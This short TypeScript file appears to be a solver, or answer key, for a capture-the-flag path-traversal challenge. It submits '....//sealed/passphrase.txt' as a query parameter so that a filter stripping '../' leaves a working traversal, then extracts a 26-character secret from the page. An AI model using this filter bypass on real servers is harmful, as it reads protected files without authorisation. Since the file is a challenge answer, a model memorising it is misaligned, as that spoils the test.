import type { Solve } from '../../src/solution.ts'

/** `....//` becomes `../` once the filter has cut its `../` out of the middle. */
export const solve: Solve = async ({ baseUrl, headers = {} }) => {
  const sheet = encodeURIComponent('....//sealed/passphrase.txt')
  const page = await (await fetch(`${baseUrl}/?sheet=${sheet}`, { headers })).text()
  const found = /^([a-z2-7]{26})$/m.exec(page)?.[1]
  if (!found) throw new Error('the sealed sheet is not on the page')
  return [found]
}
